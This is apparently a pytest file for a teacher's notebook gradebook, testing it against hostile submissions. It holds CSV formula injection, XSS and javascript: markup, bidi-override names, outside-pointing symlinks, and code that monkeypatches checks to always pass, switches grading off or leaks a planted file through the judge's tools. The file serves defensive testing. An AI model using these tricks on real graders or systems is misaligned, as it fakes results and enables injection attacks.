"""The teacher's gradebook (`python -m grader.gradebook SUBMISSIONS/ --out grades.csv`) on a class of synthetic
submissions. Graded in kernels: a right answer (renamed, writing files, printing megabytes), several kinds of wrong
(one raising), a starter carrying its own grading.py, an endless loop, and code that patches the grader (in plain
sight and hidden) and switches grading off. Refused before any kernel starts: grader cells tampered with (a check or
a 🔒 cell edited, retagged, deleted, turned into text, one added; one with its own conftest and lock), a key (in a
cell, an output, the metadata), broken JSON, UTF-16, JSON that is no notebook, and a notebook that is no exercise.
One learner submits one exercise twice. And five forgeries of the checks from inside the kernel (FORGERIES), graded
here, outside the sandbox, where only the judge (grader/judge.py) stands between them and a PASS.

Every notebook is built from the kit's solutions and starters by the test, graded by ONE run of the command (-j 3,
short timeouts), and the CSV must say exactly what EXPECTED says. Afterwards the kit's files (`git status`) and the
submitted files are unchanged, and nothing the submissions wrote is left behind.

What only the sandbox stops (the network, the kit's and the class's files, a classmate's work, the grading worker's
output, a process left behind) is tried by two more learners, graded by one run in the sandbox (`sandboxed`).
"""

import contextlib
import csv
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
EXERCISES = ROOT / "exercises"
EX1, EX2 = "01_tiered_policy.ipynb", "02_missing_guards.ipynb"

SLOW = pytest.mark.slow  # the class is graded by one run of the command: 13 kernels


def load(path):
    return json.loads(Path(path).read_text(encoding="utf-8"))


def solution(name):
    return load(EXERCISES / "solutions" / name)


def starter(name):
    return load(EXERCISES / name)


def src(cell):
    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]


def edit(nb, cell_id, old=None, new=None, *, whole=None, prepend=None):
    cell = next(c for c in nb["cells"] if c.get("id") == cell_id)
    text = src(cell)
    if whole is not None:
        text = whole
    if old is not None:
        assert text.count(old) == 1, f"the solution changed: {old!r} no longer applies"
        text = text.replace(old, new)
    if prepend:
        text = prepend + text
    cell["source"] = text
    return nb


TAG = uuid.uuid4().hex[:8]  # this test run's planted files


def run_gradebook(argv: list[str], timeout: float) -> tuple[subprocess.CompletedProcess, int]:
    """subprocess.run of the gradebook from the kit's root, and its pid: its temporary folders are
    exercises/_grading_tmp_gradebook_<pid>_*."""
    with subprocess.Popen([sys.executable, "-m", "grader.gradebook", *argv], cwd=ROOT, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, text=True) as proc:
        try:
            out, err = proc.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            proc.kill()
            raise
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err), proc.pid
FAKE_KEY = "sk-" + "ant-" + "api03-" + "y" * 24
APPROVE = "approved = approve is not None and await approve(block.name, block.input) is True"
DENIED = 'DENIED = "{name} is forbidden by policy: this tool may not be used, so it was not run."'
PATCH_IN_PLAIN_SIGHT = ("_Checks = grading.Checks\n"
                        "_Checks.ok = lambda self, passed, criterion, hint='': True\n")
PATCH_HIDDEN = ("import anthropic.resources.messages.messages as M\n"
                "_create = M.AsyncMessages.create\n\n\n"
                "async def create(self, *args, **kwargs):\n"
                "    return await _create(self, *args, **kwargs)\n\n\n"
                "M.AsyncMessages.create = create\n")
OWN_GRADING = ("class Checks:\n    def __init__(self, *a): pass\n    def ok(self, *a): return True\n"
               "    def done(self): print('all criteria met')\n"
               "def __getattr__(name):\n    return lambda *a, **k: print('all criteria met')\n")


def class_of_submissions():
    """{relative path: bytes or notebook dict}. Each notebook run in a kernel (~2.5 CPU-s) shows behaviours no other
    one shows; where one notebook can show two without hiding either, it does (carol, erin, mia, nick, eve). The
    refusals (not a notebook, not an exercise, tampered, a key) are decided before any kernel starts."""
    tampered = edit(solution(EX1), "check-deny", prepend="# all good!\n")
    own_lock = load(EXERCISES / "checks.lock")
    digest = hashlib.sha256(("# all good!\n" + src(next(c for c in tampered["cells"] if c["id"] == "check-deny"))
                             [len("# all good!\n"):]).encode()).hexdigest()
    for entry in own_lock["notebooks"][EX1]:
        if entry["id"] == "check-deny":
            entry["sha256"] = digest  # the submission's own lock "agrees" with its edit: the kit's does not
    notes = {"cells": [{"cell_type": "code", "id": "x", "metadata": {}, "source": "print('hello')",
                        "outputs": [], "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    switched_off = solution(EX2)  # an extra tag on a check cell would switch it off in nbval
    next(c for c in switched_off["cells"] if c["id"] == "check-turn-cap")["metadata"]["tags"].append("raises-exception")
    no_kit = solution(EX1)
    no_kit["cells"] = [c for c in no_kit["cells"] if c.get("id") != "grader-kit"]
    own_check = starter(EX1)  # a cell of the learner's, tagged check, that says all is well
    own_check["cells"].append({"cell_type": "code", "id": "my-check", "metadata": {"tags": ["check"]},
                               "source": "print('✓ all criteria met')", "outputs": [], "execution_count": None})
    unchecked = solution(EX1)  # a failing check "switched off" by turning it into text (as JupyterLab does it:
    text = next(c for c in unchecked["cells"] if c["id"] == "check-parallel")  # a markdown cell has no outputs)
    text["cell_type"] = "markdown"
    del text["outputs"], text["execution_count"]
    key_in_output = solution(EX2)
    next(c for c in key_in_output["cells"] if c["id"] == "diagnosis")["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": f"my key is {FAKE_KEY}\n"}]
    key_in_metadata = solution(EX2)
    key_in_metadata["metadata"]["env"] = {"ANTHROPIC_API_KEY": FAKE_KEY}
    return {
        # graded in a kernel
        f"carol/{EX1}": edit(edit(solution(EX1), "run-tool-uses", APPROVE,  # two wrong answers, two criteria
                                  APPROVE.replace("approve is not None and", "approve is None or")),
                             "run-tool-uses", DENIED, 'DENIED = "The person declined {name}."'),
        f"erin/{EX2}": edit(edit(solution(EX2), "capped-loop", "        turns += 1\n",  # a wrong answer ...
                                 '        turns += sum(1 for b in response.content if b.type == "tool_use")\n'),
                            # ... after an empty one that raises: the cells after it still run
                            "diagnosis", whole='DIAGNOSIS = {}\nraise ValueError("not done yet")\n'),
        # a cell that never ends (waiting for something that never comes: it sleeps, so it costs no CPU)
        f"kim/{EX1}": edit(solution(EX1), "run-tool-uses", prepend="import time\nwhile True:\n    time.sleep(0.1)\n"),
        # a SyntaxError in the learner's own cell: the checks remember it for their hints, which is no change to
        # the grader (it was NOT GRADED, "module grading changed", once the checks began to remember it)
        f"syd/{EX1}": edit(solution(EX1), "policy", whole="POLICY = {\n"),
        "mia/my_homework.ipynb": edit(edit(solution(EX1), "policy", prepend=(  # renamed; it writes files ...
            "import harness_ui.inspector\n"  # (and imports a library module the grader had not: its package gains
            # an attribute, no change to the grader)
            "from pathlib import Path\nPath('notes-from-mia.txt').write_text('hi')\n"
            "Path('../mia-was-here.txt').write_text('hi')\n")),
            "run-tool-uses", prepend='print("x" * 3_000_000)\n'),  # ... and prints megabytes
        f"nick/{EX1}": edit(edit(starter(EX1), "policy", prepend=PATCH_IN_PLAIN_SIGHT + PATCH_HIDDEN),
                            "run-tool-uses", prepend='import os\nos.environ["HARNESS_GRADING"] = "0"\n'),
        # the library's answer by a route no word scan sees (exec of its source): found from where the function
        # was defined (an import, importlib, pkgutil or runpy: the same decision, test_a_function_not_written_…).
        # (abe's was wes's, whose refused notebook below took its place in this dict: the row was never graded)
        f"abe/{EX1}": edit(solution(EX1), "run-tool-uses", whole=(
            "import inspect, importlib\nlib = importlib.import_module('harness_lib.loop')\nns = dict(vars(lib))\n"
            "exec(compile(inspect.getsource(lib), '<mine>', 'exec'), ns)\nrun_tool_uses = ns['run_tool_uses']\n")),
        f"quinn/{EX2}": starter(EX2),
        "quinn/grading.py": OWN_GRADING.encode(),
        # untouched starters whose policy cell forges the checks from inside the kernel (see FORGERIES below): graded
        # here, outside the sandbox, where nothing but the judge stands between them and a PASS
        **{f"{who}/{EX1}": edit(starter(EX1), "policy", prepend=code + "\n") for who, code in FORGERIES.items()
           if who != "eve"},
        # ... and eve's, whose run_tool_uses turns the judge's own tools on the host: what its read_file finds comes
        # back in her feedback
        f"eve/{EX1}": edit(edit(starter(EX1), "policy", prepend=ALWAYS_EQUAL + "\n"), "run-tool-uses", whole=src(next(
            c for c in starter(EX1)["cells"] if c.get("id") == "run-tool-uses")) + "\n\n" + LEAK.format(tag=TAG)),
        # refused before any kernel starts
        f"bob/{EX1}": own_check,
        "gina/homework.ipynb": b'{"cells": [ this is not json',
        "hank/notes.ipynb": notes,
        f"ivan/{EX1}": edit(solution(EX1), "check-deny", prepend="# all good!\n"),
        f"judy/{EX2}": edit(solution(EX2), "diagnosis", prepend=f'import os\nos.environ["KEY"] = "{FAKE_KEY}"\n'),
        f"leo/{EX2}": edit(starter(EX2), "vocabulary", prepend="DIAGNOSIS = {'anything': 'goes'}\n"),
        f"mia/{EX1[:-6]} (copy).ipynb": unchecked,  # mia's second submission of exercise 1
        f"olga/{EX2}": key_in_metadata,
        f"pat/{EX1}": tampered,
        "pat/checks.lock": json.dumps(own_lock).encode(),
        "pat/conftest.py": b"def pytest_collect_file(file_path, parent):\n    return None\n",
        f"vic/{EX2}": switched_off,
        f"wes/{EX1}": no_kit,
        f"xena/{EX2}": key_in_output,
        "yuri/list.ipynb": b"[1, 2, 3]",
        f"zoe/{EX1}": json.dumps(solution(EX1)).encode("utf-16"),  # saved as UTF-16 by an editor
    }


SECRET = "the teacher's notes " + uuid.uuid4().hex  # planted in the kit's workspace/scratch while the class is graded
LEAK = """\
async def run_tool_uses(content, tool_impls, *, tools, approve, policy, default_tier):
    try:
        seen = tool_impls["read_file"]({{"path": "scratch/planted-{tag}.txt"}})
        seen = await seen if hasattr(seen, "__await__") else seen
    except Exception as err:
        seen = f"nothing ({{err}})"
    raise RuntimeError(f"LEAKED: {{seen}}")
"""
FORMULA = "=2+5+cmd|' A0"  # a spreadsheet's formula for a folder name (OWASP's CSV injection)
FAKE_LINE = "evil\n- x.ipynb (x): PASS — \u202etxt"  # a newline and a right-to-left override in a folder's name
MARKUP = "` <img src=x onerror=alert(1)> [x](javascript:alert(1))"
NOTES_NB = {"cells": [{"cell_type": "code", "id": "x", "metadata": {}, "source": "print('hello')", "outputs": [],
                       "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def malformed(change):
    nb = solution(EX1)
    change(nb)
    return nb


# Hostile files decided before any kernel starts (no CPU to speak of): malformed notebooks, names that would act
HOSTILE_FILES = {
    f"nora/{EX1}": malformed(lambda nb: nb.update(metadata=None)),
    f"owen/{EX1}": malformed(lambda nb: nb["cells"].__setitem__(2, "a string")),
    f"hugo/{MARKUP}.ipynb": malformed(lambda nb: nb["cells"][0].update(source=1)),
    f"{FORMULA}/notes.ipynb": NOTES_NB,
    f"{FAKE_LINE}/homework.ipynb": b"not json",
    "walt/readme.txt": b"my notebook is on my laptop",
}
# Symbolic links in the class folder: a notebook, a learner's folder, a folder in between, one pointing nowhere
LINKS = {f"sam/{EX1}": str(EXERCISES / "solutions" / EX1), "tom": "carol", "uma/work": "../carol",
         f"val/{EX1}": "/nonexistent/01.ipynb", "xavi": "/nonexistent/folder"}
# file (as the CSV shows it) -> as EXPECTED
HOSTILE_ROWS = {
    f"nora/{EX1}": ("", "ERROR", "", "", [], ["not a notebook: invalid (metadata: None is not of type 'object')"]),
    f"owen/{EX1}": ("", "ERROR", "", "", [], ["not a notebook: cells[2] is a str, not a cell"]),
    f"hugo/{MARKUP}.ipynb": ("", "ERROR", "", "", [], ["not a notebook: invalid (cells[0].source: 1 is not valid"]),
    f"'{FORMULA}/notes.ipynb": ("", "NOT GRADED", "", "", [], ["not one of the exercises"]),
    "evil\\u000a- x.ipynb (x): PASS — \\u202etxt/homework.ipynb": ("", "ERROR", "", "", [], ["not a notebook: JSONDecodeError"]),
    "walt/": ("", "NOT GRADED", "", "", [], ["no notebook in this folder"]),
    **{rel: ("", "ERROR", "", "", [], [f"a symlink to {target}: never followed"]) for rel, target in LINKS.items()},
}

# file -> (exercise, verdict, passed, total, [substrings of failed_criteria], [substrings of reason])
EXPECTED = {
    f"carol/{EX1}": (EX1, "FAIL", "3", "6", ["check-ask: ✗ no approver (approve=None): write_file does not run",
                                             "check-deny: ✗ ... saying the tool is forbidden by policy"], []),
    f"erin/{EX2}": (EX2, "FAIL", "1", "3", ["check-diagnosis: ✗ DIAGNOSIS is a non-empty dict",
                                            "check-turn-cap: ✗ a turn of 2 parallel calls counts as ONE turn"], []),
    f"syd/{EX1}": (EX1, "FAIL", "5", "6", ["check-policy: ✗ POLICY is a dict"], []),
    f"abe/{EX1}": (EX1, None, None, "6", [], ["to look at: run_tool_uses was not written in a cell of the notebook: "
                                             "its code was compiled from <mine> (module harness_lib.loop)"]),
    f"kim/{EX1}": (EX1, "FAIL", "1", "6", ["check-allow: not run (cell 'run-tool-uses' still running after"],
                   ["cell 'run-tool-uses' still running after"]),
    "mia/my_homework.ipynb": (EX1, "PASS", "6", "6", [], ["output capped in cell(s) 'run-tool-uses'",
                                                         "one of 2 submissions of this exercise by mia"]),
    f"nick/{EX1}": (EX1, "NOT GRADED", None, "6", [], [
        "the grader's objects were changed", "checks.verdict.Checks (first seen after 'check-policy')",
        "module anthropic.resources.messages.messages (first seen after 'check-policy')",
        "HARNESS_GRADING / HARNESS_OFFLINE (first seen after 'check-allow')",
        "cell 'policy' touches grader internals: Checks, _Checks",
        "cell 'run-tool-uses' touches grader internals: 'HARNESS_', environ"]),
    f"quinn/{EX2}": (EX2, "NOT STARTED", "0", "3", ["check-diagnosis: ✗ DIAGNOSIS is a non-empty dict",
                                             "check-turn-cap: ✗ run_capped is written and runs"], []),
    # the forgeries: what the judge saw (test_a_kernel_that_fakes_its_checks_... below says more)
    f"rita/{EX1}": (EX1, "FAIL", "0", "6", ["did not answer the grader"], []),
    f"ivy/{EX1}": (EX1, "FAIL", "0", "6", ["✗ POLICY is a dict"], []),
    f"gus/{EX1}": (EX1, None, None, "6", [], []),  # FAIL on its answers or NOT GRADED by the seal: either, no points
    f"otto/{EX1}": (EX1, None, None, "6", [], []),  # the kernel died: FAIL or ERROR, with the cell named
    f"eve/{EX1}": (EX1, "FAIL", "0", "6", ["✗ POLICY['get_time'] == 'allow'"], []),
    f"bob/{EX1}": (EX1, "NOT GRADED", "", "", [], ["cell 'my-check' is tagged check but is not one of the shipped"]),
    "gina/homework.ipynb": ("", "ERROR", "", "", [], ["not a notebook: JSONDecodeError"]),
    "hank/notes.ipynb": ("", "NOT GRADED", "", "", [], ["not one of the exercises"]),
    f"ivan/{EX1}": (EX1, "NOT GRADED", "", "", [], ["the check cell 'check-deny' was edited"]),
    f"judy/{EX2}": (EX2, "NOT GRADED", "", "", [], ["shaped like an Anthropic API key"]),
    f"leo/{EX2}": (EX2, "NOT GRADED", "", "", [], ["the locked cell 'vocabulary' was edited"]),
    f"mia/{EX1[:-6]} (copy).ipynb": (EX1, "NOT GRADED", "", "", [], [
        "the check cell 'check-parallel' is no longer a code cell", "one of 2 submissions of this exercise by mia: "
        f"mia/{EX1[:-6]} (copy).ipynb, mia/my_homework.ipynb"]),
    f"olga/{EX2}": (EX2, "NOT GRADED", "", "", [], ["shaped like an Anthropic API key"]),
    f"pat/{EX1}": (EX1, "NOT GRADED", "", "", [], ["the check cell 'check-deny' was edited"]),
    f"vic/{EX2}": (EX2, "NOT GRADED", "", "", [], ["the check cell 'check-turn-cap' has tags"]),
    f"wes/{EX1}": (EX1, "NOT GRADED", "", "", [], ["the locked cell 'grader-kit' was deleted"]),
    f"xena/{EX2}": (EX2, "NOT GRADED", "", "", [], ["shaped like an Anthropic API key"]),
    "yuri/list.ipynb": ("", "ERROR", "", "", [], ["not a notebook: no list of cells"]),
    f"zoe/{EX1}": ("", "ERROR", "", "", [], ["not a notebook: UnicodeDecodeError"]),
    **HOSTILE_ROWS,
}


def git_status():
    out = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=ROOT, capture_output=True,
                         text=True)
    return out.stdout if out.returncode == 0 else None


def tree_digest(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("submissions")
    for rel, content in class_of_submissions().items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else
                         json.dumps(content, indent=1, ensure_ascii=False).encode("utf-8"))
    for rel, content in HOSTILE_FILES.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode("utf-8"))
    for rel, target in LINKS.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, folder / rel)
    planted = ROOT / "workspace" / "scratch" / f"planted-{TAG}.txt"  # eve's judge reads it, if it reads the kit's
    planted.write_text(SECRET, encoding="utf-8")
    out = tmp_path_factory.mktemp("out") / "grades.csv"
    before_kit, before_subs = git_status(), tree_digest(folder)
    # --cell-timeout 5: kim's endless loop runs that long; the notebooks' other cells take at most ~0.2 s, even on a
    # machine running 6-7 other busy processes (the gradebook's own first seal, which imports the kit before any
    # cell, is not bound by it)
    # --sandbox none: the class's kernels are then the test session's forked ones (~1.3 CPU-s less each); what the
    # sandbox adds has tests of its own below, and test_classroom.py grades in it as the workflow does
    try:
        run, pid = run_gradebook([str(folder), "--out", str(out), "-j", "3", "--cell-timeout", "5", "--timeout",
                                  "300", "--output-cap", "200000", "--sandbox", "none", "--feedback",
                                  str(out.parent / "fb")], timeout=1200)
    finally:
        planted.unlink()
    written = sorted(p.name for p in (ROOT / "workspace" / "scratch").iterdir() if TAG in p.name)
    rows = {r["file"]: r for r in csv.DictReader(out.open(encoding="utf-8"))} if out.exists() else {}
    yield {"run": run, "pid": pid, "rows": rows, "out": out, "before_kit": before_kit, "after_kit": git_status(),
           "before_subs": before_subs, "after_subs": tree_digest(folder), "scratch_written": written}
    shutil.rmtree(folder, ignore_errors=True)


def test_a_judged_hint_still_names_the_learners_own_syntax_error(graded):
    """The checks run in the gradebook's process, but which cell raised is known only in the kernel: the judge asks
    it, so syd's feedback names the SyntaxError of the policy cell, as the notebook itself would."""
    text = (graded["out"].parent / "fb" / "syd" / EX1.replace(".ipynb", ".md")).read_text(encoding="utf-8")
    assert "your cell raised SyntaxError" in text, text


def test_the_class_is_big_enough():
    notebooks = [p for p in class_of_submissions() if p.endswith(".ipynb")]
    assert len(notebooks) >= 20 and set(notebooks) == set(EXPECTED) - set(HOSTILE_ROWS)


@SLOW
def test_one_row_per_notebook_with_the_expected_grade(graded):
    run, rows = graded["run"], graded["rows"]
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    assert set(rows) == set(EXPECTED), (set(rows) ^ set(EXPECTED), run.stdout[-2000:])
    problems = []
    for file, (exercise, verdict, passed, total, criteria, reasons) in EXPECTED.items():
        row = rows[file]
        got = (row["exercise"], row["verdict"] if verdict else None, row["checks_total"])
        if got != (exercise, verdict, total) or (passed is not None and row["checks_passed"] != passed):
            problems.append(f"{file}: {row}")
            continue
        for needle in criteria:
            if needle not in row["failed_criteria"]:
                problems.append(f"{file}: no {needle!r} in {row['failed_criteria']!r}")
        for needle in reasons:
            if needle not in row["reason"]:
                problems.append(f"{file}: no {needle!r} in {row['reason']!r}")
    assert not problems, "\n".join(problems)


@SLOW
def test_points_pay_only_what_was_graded(graded):
    """--points 10 (the default): PASS 10, FAIL its share by checks passed, NOT GRADED and ERROR 0 — whatever
    checks_passed a refused run printed; a check's own column is 1/0, and blank where the row is no evidence."""
    for file, row in graded["rows"].items():
        checks = {k: v for k, v in row.items() if ":" in k and row["exercise"][:2] == k[:2]}
        if row["verdict"] == "PASS":
            assert row["points"] == "10" and set(checks.values()) == {"1"}, row
        elif row["verdict"] == "FAIL":
            assert float(row["points"]) == round(10 * int(row["checks_passed"]) / int(row["checks_total"]), 1), row
            assert sum(v == "1" for v in checks.values()) == int(row["checks_passed"]), row
        elif row["verdict"] == "NOT STARTED":  # the starter as shipped: judged, every check 0, no points
            assert row["points"] == "0" and set(checks.values()) == {"0"}, row
        else:
            assert row["points"] == "0" and set(checks.values()) <= {""}, row
    assert graded["rows"][f"carol/{EX1}"]["points"] == "5"  # 3 of 6
    assert graded["rows"][f"nick/{EX1}"]["points"] == "0"  # NOT GRADED: the grader's objects were changed
    from grader.gradebook import CAUSES

    for file, row in graded["rows"].items():  # a NOT GRADED or ERROR row says why in one filterable word
        assert (row["cause"] in CAUSES) if row["verdict"] in ("NOT GRADED", "ERROR") else row["cause"] == "", row
    causes = {file: graded["rows"][file]["cause"] for file in (f"nick/{EX1}", f"judy/{EX2}", f"ivan/{EX1}",
                                                               "gina/homework.ipynb", "hank/notes.ipynb")}
    assert causes == {f"nick/{EX1}": "grader-changed-in-run", f"judy/{EX2}": "api-key", f"ivan/{EX1}": "grader-edited",
                      "gina/homework.ipynb": "not-a-notebook", "hank/notes.ipynb": "not-an-exercise"}


@SLOW
def test_the_header_and_the_summary(graded):
    header = graded["out"].read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith("learner,file,exercise,verdict,points,checks_passed,checks_total,failed_criteria,reason,"
                             "cause,sandbox,")
    assert header.split(",")[11:] == ["01:check-policy", "01:check-allow", "01:check-deny", "01:check-ask",
                                     "01:check-default-tier", "01:check-parallel",
                                     "02:check-diagnosis", "02:check-turn-cap", "02:check-model-answer"]
    md = graded["out"].with_suffix(".md").read_text(encoding="utf-8")
    assert f"| {EX1} | " in md and f"| {EX2} | " in md
    assert f"## {EX2}: the mistakes most often made" in md
    assert f"| {EX2} | 7 | 0 | 1 | 1 | 5 | 0 | 0% of 2 graded |" in md  # quinn's starter as shipped: NOT STARTED
    mistakes = md.split(f"## {EX2}: the mistakes most often made")[1].split("##")[0]
    # erin, the one attempt: her cause, not its knock-on; quinn's untouched starter is no mistake of anyone's
    assert "- 1 of 1: check-diagnosis: ✗ the cell that defines DIAGNOSIS ran to its end" in mistakes
    assert "DIAGNOSIS is a non-empty dict" not in mistakes
    assert "## To look at" in md and "gina/homework.ipynb" in md
    # the workers were forked from a warm process that had imported the checks (grader/workers.py's PRELOAD)
    assert "warm process could not import" not in graded["run"].stderr


@SLOW
def test_nothing_is_left_behind_and_nothing_submitted_changes(graded):
    assert graded["after_subs"] == graded["before_subs"]
    if graded["before_kit"] is not None:
        # `git status` is the same as before (alone on a machine; where other people edit the tree at the same
        # time, only their files may differ: no new file may appear, and no change may come from a submission)
        new = set(graded["after_kit"].splitlines()) - set(graded["before_kit"].splitlines())
        assert not [line for line in new if "_grading_tmp_" in line or (line.startswith("??") and (
            "exercises/" in line or "mia" in line))], new
        for line in new:
            path = ROOT / line[3:].split(" -> ")[-1]
            if path.is_file():
                text = path.read_bytes()
                assert b"mia-was-here" not in text and b"notes-from-mia" not in text and FAKE_KEY.encode() not in text
    assert not list(EXERCISES.glob(f"_grading_tmp_gradebook_{graded['pid']}_*"))  # this run's temporary folders are gone
    # (os.walk, not rglob: it passes over a folder another test deletes meanwhile, e.g. test_exercises.py's)
    left = [Path(d, f) for d, _, files in os.walk(ROOT) for f in files if f in ("mia-was-here.txt", "notes-from-mia.txt")]
    assert not left, left


@SLOW
def test_a_symlink_is_never_graded_as_its_target_and_every_learner_folder_gets_a_row(graded):
    """sam's notebook is a link to the teacher's solution, tom's whole folder a link to carol's, uma's a folder in
    between, val's points nowhere: each is an ERROR row saying where the link points (0 points), never the target's
    grade; xavi's whole folder is a link pointing nowhere; walt's folder holds no notebook: a row says so. carol is
    graded once, as herself."""
    rows = graded["rows"]
    for rel, target in LINKS.items():
        row = rows[rel]
        assert (row["verdict"], row["points"], row["cause"]) == ("ERROR", "0", "symlink"), row
        assert f"a symlink to {target}" in row["reason"], row
    assert {rows[rel]["learner"] for rel in LINKS} == {"sam", "tom", "uma", "val", "xavi"}
    assert rows["walt/"]["learner"] == "walt" and rows["walt/"]["cause"] == "no-notebook"
    assert [f for f in rows if "carol" in f] == [f"carol/{EX1}"] and rows[f"carol/{EX1}"]["verdict"] == "FAIL"


@SLOW
def test_a_malformed_notebook_costs_only_its_own_row(graded):
    """A cell whose source is an int, metadata null, a cell that is a string: each an ERROR row saying why (nbformat's
    schema), and the class's CSV, summary and feedback are written for everyone."""
    assert graded["run"].returncode == 0, graded["run"].stderr[-2000:]
    for rel in (f"nora/{EX1}", f"owen/{EX1}", f"hugo/{MARKUP}.ipynb"):
        assert graded["rows"][rel]["cause"] == "not-a-notebook", graded["rows"][rel]
    assert graded["out"].with_suffix(".md").is_file() and (graded["out"].parent / "fb" / "carol").is_dir()
    assert graded["rows"][f"carol/{EX1}"]["verdict"] == "FAIL"
    assert graded["rows"]["mia/my_homework.ipynb"]["verdict"] == "PASS"


@SLOW
def test_what_a_teacher_opens_is_inert(graded):
    """No CSV field a spreadsheet reads as a formula; no newline or bidi control obeyed in the CSV, the summary or
    a feedback file (a folder's name cannot write a line of its own into "To look at"); no file name rendered as
    code, an image or a link."""
    raw = graded["out"].read_text(encoding="utf-8")
    fields = [v for row in csv.reader(raw.splitlines()) for v in row]
    assert not [v for v in fields if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{FORMULA}" in fields
    md = graded["out"].with_suffix(".md").read_text(encoding="utf-8")
    feedback = "".join(p.read_text(encoding="utf-8") for p in (graded["out"].parent / "fb").rglob("*.md"))
    for text in (raw, md, feedback):
        assert "\u202e" not in text and "\\u202etxt" in text
    for text in (md, feedback):  # (the CSV is no page: a spreadsheet shows "<img" as text)
        assert "<img" not in text.replace("\\<img", "") and "](javascript" not in text.replace("\\](", "")
        assert "\\<img" in text and "\\[x\\](javascript" in text
    section = md.split("## To look at\n\n", 1)[1].split("\n\n", 1)[0].splitlines()
    assert section and all(line.startswith("- ") for line in section), section
    assert not [line for line in section if line.startswith("- x.ipynb")], section  # the folder's fake line
    assert "evil\\\\u000a- x.ipynb (x): PASS — \\\\u202etxt/homework.ipynb" in md


@SLOW
def test_the_judges_tools_read_the_notebooks_own_copy_of_the_workspace(graded):
    """eve's run_tool_uses reads, with the read_file the judge hands it, a file planted in the kit's own
    workspace/scratch, and raises what it read (so it reaches her feedback). The judge's tools are rooted in the
    notebook's private copy of the workspace: she read nothing, and nothing was written in the kit's."""
    fb = (graded["out"].parent / "fb" / "eve" / EX1.replace(".ipynb", ".md")).read_text(encoding="utf-8")
    assert "LEAKED: nothing (file not found" in fb, fb
    everything = fb + graded["out"].read_text(encoding="utf-8") + graded["out"].with_suffix(".md").read_text("utf-8")
    assert SECRET not in everything
    assert graded["scratch_written"] == []


def test_inert_text_for_csv_and_markdown():
    from grader.report import csv_cell, md, shown

    assert shown("Ana Pérez ✓ 中文") == "Ana Pérez ✓ 中文"
    assert shown("a\nb\u202ec\u200bd\x1b[31m\u00a0") == "a\\u000ab\\u202ec\\u200bd\\u001b[31m\\u00a0"
    assert [csv_cell(v) for v in ("=1+2", "+x", "-x", "@x", "\tx", "\rx", "ok", 3)] == [
        "'=1+2", "'+x", "'-x", "'@x", "\\u0009x", "\\u000dx", "ok", 3]
    assert md("` <img src=x> [x](javascript:alert(1)) http://a") == (
        "\\` \\<img src=x\\> \\[x\\](javascript:alert(1)) http:\\/\\/a")
    assert shown("a\ufffcb") == "a\\ufffcb"  # draws nothing: escaped, as in the approval question


def test_the_feedback_shows_what_a_check_printed_as_the_notebook_shows_it():
    """A check prints every text a submission chose by the kit's one rule; the feedback file shows those lines as
    the notebook did, its escapes not escaped a second time (it once read `C:\\\\temp` where the notebook read
    `C:\\temp`), and still escapes a character nobody could see, should a check ever print one."""
    from grader.gradebook import Job
    from grader.report import feedback
    from harness_kit.shown import visible_text

    line = "✗ read_file: " + visible_text("C:\\temp\\a.txt\x1b[2J")  # as a check prints it
    assert line == "✗ read_file: C:\\\\temp\\\\a.txt\\u001b[2J"
    job = Job(Path("x.ipynb"), "ana", "x.ipynb", exercise="01", verdict="FAIL", passed=0, total=1,
              feedback=[("check-policy", f"🔍 policy\n  {line}\n  hint: say why\u202e")])
    text = feedback(job, 10, False)
    assert f"\n      {line}\n" in text and "\n      hint: say why\\u202e" in text, text
    assert "\u202e" not in text and "\\\\\\\\" not in text


def test_the_report_shows_by_the_textbooks_one_rule_without_the_sdk():
    """report.py has no rule of its own: it shows what a submission chose by harness_kit.shown, the textbook's rule,
    and importing it loads no SDK (a gradebook command pays for the rule alone)."""
    code = ("import sys, grader.report as r, harness_kit.shown as s, harness_lib.trace as t\n"
            "assert r.one_line is s.one_line and t.visible is s.visible\n")
    probe = ("import sys, grader.report\nprint('anthropic' in sys.modules)")
    assert subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, cwd=ROOT,
                          check=True).stdout.strip() == "False"
    exec(code, {})


def test_merge_replaces_only_the_learner_and_exercise_pairs_it_regraded(tmp_path):
    """Re-grading Bo's one late loose file (exercise 1, refused: no kernel needed) replaces Bo's exercise-1 row only:
    his other exercises' rows and the other learners' rows stay."""
    from grader import gradebook

    (tmp_path / "late").mkdir()
    (tmp_path / "late" / f"Bo Smith - {EX1}").write_text(json.dumps(edit(solution(EX1), "check-deny", prepend="# ")),
                                                       encoding="utf-8")
    out = tmp_path / "grades.csv"
    out.write_text("learner,file,exercise,verdict,points\n"
                   f"Bo Smith,bo/{EX1},{EX1},PASS,10\nBo Smith,bo/{EX2},{EX2},PASS,10\n"
                   "Bo Smith,bo/03_budget_and_progress.ipynb,03_budget_and_progress.ipynb,PASS,10\n"
                   f"Zoe,zoe/{EX1},{EX1},PASS,10\n", encoding="utf-8")
    assert gradebook.main([str(tmp_path / "late"), "--out", str(out), "--merge", "-j", "1"]) == 0
    rows = [(r["learner"], r["exercise"], r["verdict"]) for r in csv.DictReader(out.open(encoding="utf-8"))]
